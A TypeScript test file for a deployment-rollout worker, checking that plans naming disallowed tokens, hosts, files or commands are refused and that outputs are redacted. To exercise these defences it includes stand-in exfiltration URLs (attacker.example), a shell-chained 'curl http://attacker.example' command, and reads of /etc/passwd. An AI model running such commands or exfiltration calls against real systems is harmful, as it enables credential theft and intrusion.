/**
 * Issue 21, "a plan is not a key": anyone who can start a workflow writes the plan, so each hole a
 * plan could open is closed where the worker acts. One test per hole, through the activities the
 * worker registers: a tokenEnv outside the allow-list, a host outside it, a file outside the
 * allowed paths, a command outside the allowed directories, the environment a command sees, and
 * what reaches `status` (outputs, bodies, failures) redacted.
 */
import { chmodSync, mkdtempSync, realpathSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { createActivities } from '../../src/activities';
import type { VerifyStageInput } from '../../src/contracts/activities';
import type { Plan, TrafficConfig } from '../../src/plan/schema';
import { seedPlan } from '../helpers/seed-plan';
import { rejectionOf, serve, type Served } from '../providers/support';

const dir = realpathSync(mkdtempSync(path.join(tmpdir(), 'rollout-holes-')));

/** A server that counts what reaches it and answers `status` with `body`. */
async function counting(
  status = 200,
  body: unknown = { useDomainService: true, groups: { read: { percent: 0 } } },
) {
  const calls: Array<{ url?: string; authorization?: string }> = [];
  const served = await serve((req, res) => {
    calls.push({ url: req.url, authorization: req.headers.authorization });
    res.writeHead(status, { 'Content-Type': 'application/json' });
    res.end(JSON.stringify(body));
  });
  return Object.assign(served, { calls });
}

let server: (Served & { calls: Array<{ url?: string; authorization?: string }> }) | undefined;
afterEach(async () => {
  await server?.close();
  server = undefined;
});

function stageInput(target: Plan['target'], over: Partial<VerifyStageInput> = {}): VerifyStageInput {
  return {
    rolloutId: 'rollout-holes',
    target,
    phase: { name: 'phase2-read', group: 'read', endpoints: ['GET /api/v1/system/info'] },
    percent: 10,
    checks: ['functional'],
    ...over,
  };
}

test('a tokenEnv outside the allow-list: refused, and its value is never sent anywhere', async () => {
  server = await counting();
  const traffic: TrafficConfig = {
    type: 'http',
    url: `${server.url}/admin/rollout`,
    tokenEnv: 'SECRET_KEY',
    timeout: '5s',
  };
  const acts = createActivities({
    env: { SECRET_KEY: 'sk-live-0123456789', ADMIN_TOKEN: 'dev-admin-token' },
  });
  const err = await rejectionOf(acts.applyTraffic({ traffic, group: 'read', percent: 10 }));
  expect(err.message).toBe(
    "target.traffic.tokenEnv: plan refused by the worker's policy: tokenEnv SECRET_KEY is not allowed (ROLLOUT_ALLOW_TOKEN_ENV=ROLLOUT_TOKEN_*,ADMIN_TOKEN (default))",
  );
  expect([err.type, err.nonRetryable]).toEqual(['RolloutPolicyRefused', true]);
  expect(server.calls).toEqual([]);
  // The variable the seed plan names is allowed by default.
  const ok = await acts.applyTraffic({
    traffic: { ...traffic, tokenEnv: 'ADMIN_TOKEN' },
    group: 'read',
    percent: 0,
  });
  expect(ok.groups.read.percent).toBe(0);
  expect(server.calls[0].authorization).toBe('Bearer dev-admin-token');
});

test('the worker refuses such a plan at the start, listing every refusal with its path, before anything moves', async () => {
  const plan = seedPlan();
  plan.target.traffic = {
    type: 'http',
    url: 'http://admin.attacker.example/collect',
    tokenEnv: 'SECRET_KEY',
    timeout: '10s',
  };
  plan.notify = { webhookUrl: 'https://attacker.example/hook' };
  const checked = await createActivities({ env: {} }).validateRolloutInput({ plan });
  expect(checked.ok).toBe(false);
  if (checked.ok) return;
  expect(checked.type).toBe('PlanRefused');
  expect(checked.message.split('\n')).toEqual([
    "plan refused by the worker's policy (3 problems):",
    "target.traffic.url: plan refused by the worker's policy: admin.attacker.example:80 is not an allowed host (ROLLOUT_ALLOW_HOSTS=127.0.0.1,localhost,[::1] (default))",
    "target.traffic.tokenEnv: plan refused by the worker's policy: tokenEnv SECRET_KEY is not allowed (ROLLOUT_ALLOW_TOKEN_ENV=ROLLOUT_TOKEN_*,ADMIN_TOKEN (default))",
    "notify.webhookUrl: plan refused by the worker's policy: attacker.example:443 is not an allowed host (ROLLOUT_ALLOW_HOSTS=127.0.0.1,localhost,[::1] (default))",
  ]);
  // The seed plan itself passes as it is (loopback, ADMIN_TOKEN, ./data under the working directory).
  expect((await createActivities({ env: {} }).validateRolloutInput({ plan: seedPlan() })).ok).toBe(true);
});

describe('a host outside the allow-list is never called', () => {
  // The test servers listen on 127.0.0.1; this worker allows only `localhost`.
  const env = { ROLLOUT_ALLOW_HOSTS: 'localhost' };

  test('probes (the functional check): refused before any request, not a finding about the canary', async () => {
    server = await counting();
    const target = { ...seedPlan().target, baseUrl: server.url };
    const err = await rejectionOf(createActivities({ env }).verifyStage(stageInput(target)));
    expect(err.message).toMatch(
      /^target\.baseUrl: plan refused by the worker's policy: 127\.0\.0\.1:\d+ is not an allowed host \(ROLLOUT_ALLOW_HOSTS=localhost\)$/,
    );
    expect(err.type).toBe('RolloutPolicyRefused');
    expect(server.calls).toEqual([]);
  });

  test('metrics: an inconclusive reading that says why (never a pass), nothing fetched', async () => {
    server = await counting(200, 'x 1');
    const reading = await createActivities({ env }).sampleMetrics({
      metrics: { type: 'exposition', url: `${server.url}/metrics`, timeout: '5s' },
      key: 'k',
      groups: [{ group: 'read', endpoints: ['GET /x'] }],
      from: new Date(Date.now() - 10_000).toISOString(),
      to: new Date().toISOString(),
    });
    expect(reading.samples).toEqual({});
    expect(reading.error).toMatch(
      /target\.metrics\.url: plan refused by the worker's policy: 127\.0\.0\.1:\d+ is not an allowed host/,
    );
    expect(server.calls).toEqual([]);
  });

  test('a webhook', async () => {
    server = await counting();
    const err = await rejectionOf(
      createActivities({ env }).notify({
        webhookUrl: `${server.url}/hook`,
        idempotencyKey: 'k',
        event: { kind: 'completed', rolloutId: 'r', text: 'done' },
      }),
    );
    expect(err.message).toMatch(/^notify\.webhookUrl: plan refused by the worker's policy/);
    expect(server.calls).toEqual([]);
  });

  test('a redirect from an allowed host to another one is not followed', async () => {
    const elsewhere = await counting();
    const redirecting = await serve((_req, res) => {
      res.writeHead(302, { Location: `${elsewhere.url.replace('127.0.0.1', 'localhost')}/steal` });
      res.end();
    });
    try {
      // Allowed: the probed host only (127.0.0.1 at its port); the redirect goes to localhost.
      const port = new URL(redirecting.url).port;
      const target = { ...seedPlan().target, baseUrl: redirecting.url };
      const report = await createActivities({
        env: { ROLLOUT_ALLOW_HOSTS: `127.0.0.1:${port}` },
      }).verifyStage(stageInput(target));
      expect(report.functional!.failures[0]).toMatch(
        /redirected: plan refused by the worker's policy: localhost:\d+ is not an allowed host/,
      );
      expect(elsewhere.calls).toEqual([]);
    } finally {
      await elsewhere.close();
      await redirecting.close();
    }
  });
});

describe('files outside the allowed paths are neither read nor written', () => {
  test('an env file (the traffic switch) elsewhere: refused before it is read or rewritten', async () => {
    const traffic: TrafficConfig = {
      type: 'env-file',
      path: '/etc/hostname',
      restartCommand: 'true',
      healthUrl: 'http://127.0.0.1:9/health',
      variables: {},
      percentVariable: 'ROLLOUT_PERCENT',
      killSwitchVariable: 'HOSTNAME',
      healthTimeout: '5s',
    };
    const err = await rejectionOf(
      createActivities({ env: {} }).rollbackTraffic({ traffic, group: 'read', mode: 'percent' }),
    );
    expect(err.message).toMatch(
      /^target\.traffic\.path: plan refused by the worker's policy: \/etc\/hostname is not in an allowed directory \(ROLLOUT_ALLOW_PATHS=.* \(default\)\)/,
    );
    expect(err.type).toBe('RolloutPolicyRefused');
  });

  test('consistency stores elsewhere, or under a hidden directory: an inconclusive check naming the refusal', async () => {
    const report = await createActivities({ env: {} }).checkConsistency({
      consistency: { type: 'sqlite-yaml', database: '/etc/passwd', yaml: '.data/logs/page.yaml' },
    });
    expect(report.ok).toBe(false);
    expect(report.error).toMatch(
      /target\.consistency\.database: .*\/etc\/passwd is not in an allowed directory/,
    );
    expect(report.error).toMatch(/target\.consistency\.yaml: .*below a hidden directory or file \(\.data\)/);
  });
});

describe('commands', () => {
  const script = (name: string, body: string) => {
    const file = path.join(dir, name);
    writeFileSync(file, `#!/bin/sh\n${body}\n`);
    chmodSync(file, 0o755);
    return file;
  };
  const target = seedPlan().target;
  const withCommand = (run: string) =>
    stageInput(target, {
      checks: ['command'],
      phase: { name: 'p', group: 'read', endpoints: ['GET /x'], command: { run, timeout: '10s' } },
    });

  test('by default a plan runs no command at all', async () => {
    const err = await rejectionOf(
      createActivities({ env: { PATH: process.env.PATH } }).verifyStage(withCommand('id')),
    );
    expect(err.message).toMatch(
      /^phase p command\.run: plan refused by the worker's policy: commands are not allowed \(ROLLOUT_ALLOW_COMMANDS=\(empty\) \(default\)/,
    );
  });

  test('a program outside the allowed directories, or shell syntax around an allowed one: refused', async () => {
    const ok = script('ok.sh', 'echo ok');
    const acts = createActivities({ env: { PATH: process.env.PATH, ROLLOUT_ALLOW_COMMANDS: dir } });
    const outside = await rejectionOf(acts.verifyStage(withCommand('cat /etc/passwd')));
    expect(outside.message).toMatch(/cat \(\S+\) is not in an allowed directory/);
    const chained = await rejectionOf(acts.verifyStage(withCommand(`${ok}; curl http://attacker.example`)));
    expect(chained.message).toMatch(/the command uses shell syntax \(";"\)/);
    const report = await acts.verifyStage(withCommand(`${ok} 'a; b'`));
    expect(report.command).toMatchObject({ ok: true, exitCode: 0, output: 'ok\n' });
  });

  test('a command sees the minimal environment, not the worker’s secrets', async () => {
    const printEnv = script('print-env.sh', 'env | sort');
    const acts = createActivities({
      env: {
        PATH: process.env.PATH,
        HOME: '/home/rollout',
        ADMIN_TOKEN: 'dev-admin-token',
        SECRET_KEY: 'sk-live-0123456789',
        TEMPORAL_API_KEY: 'tak-0123456789',
        DEPLOY_ENV: 'staging',
        ROLLOUT_ALLOW_COMMANDS: dir,
        ROLLOUT_COMMAND_ENV: 'DEPLOY_*',
      },
    });
    const report = await acts.verifyStage(withCommand(printEnv));
    const names = report
      .command!.output.trim()
      .split('\n')
      .map((l) => l.split('=')[0])
      .filter((n) => n !== 'PWD' && n !== 'SHLVL' && n !== '_'); // what sh sets by itself
    expect(names.sort()).toEqual(
      [
        'DEPLOY_ENV',
        'HOME',
        'PATH',
        'ROLLOUT_BASE_URL',
        'ROLLOUT_GROUP',
        'ROLLOUT_ID',
        'ROLLOUT_PERCENT',
        'ROLLOUT_PHASE',
      ].sort(),
    );
  });

  test('its output reaches status redacted', async () => {
    const leaky = script(
      'leaky.sh',
      'echo "connecting with password=hunter22 as $ROLLOUT_ID"; echo "Authorization: Bearer abc.def.ghi"; echo 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
    );
    const report = await createActivities({
      env: { PATH: process.env.PATH, ROLLOUT_ALLOW_COMMANDS: dir },
    }).verifyStage(withCommand(leaky));
    expect(report.command!.output).toBe(
      'connecting with password=[redacted] as rollout-holes\nAuthorization: Bearer [redacted]\n[redacted]\n',
    );
  });
});

describe('what a target answers reaches status redacted', () => {
  test("a probe's failure line with the body of the answer", async () => {
    server = await counting(500, { error: 'upstream refused token dev-admin-token', password: 'pw-123' });
    const target = { ...seedPlan().target, baseUrl: server.url };
    const report = await createActivities({ env: { ADMIN_TOKEN: 'dev-admin-token' } }).verifyStage(
      stageInput(target),
    );
    const failures = report.functional!.failures.join('\n');
    expect(failures).toContain('upstream refused token [redacted]');
    expect(failures).toContain('"password":"[redacted]"');
    expect(failures).not.toMatch(/dev-admin-token|pw-123/);
  });

  test("an activity's failure (what Temporal records and status shows)", async () => {
    server = await counting(401, { error: 'token dev-admin-token revoked' });
    const traffic: TrafficConfig = {
      type: 'http',
      url: `${server.url}/admin/rollout`,
      tokenEnv: 'ADMIN_TOKEN',
      timeout: '5s',
    };
    const err = await rejectionOf(
      createActivities({ env: { ADMIN_TOKEN: 'dev-admin-token' } }).applyTraffic({
        traffic,
        group: 'read',
        percent: 10,
      }),
    );
    expect(err.message).toMatch(/HTTP 401/);
    expect(err.message).toContain('token [redacted] revoked');
    expect(err.stack).not.toContain('dev-admin-token');
    expect([err.type, err.nonRetryable]).toEqual(['RolloutAuthError', true]);
  });
});
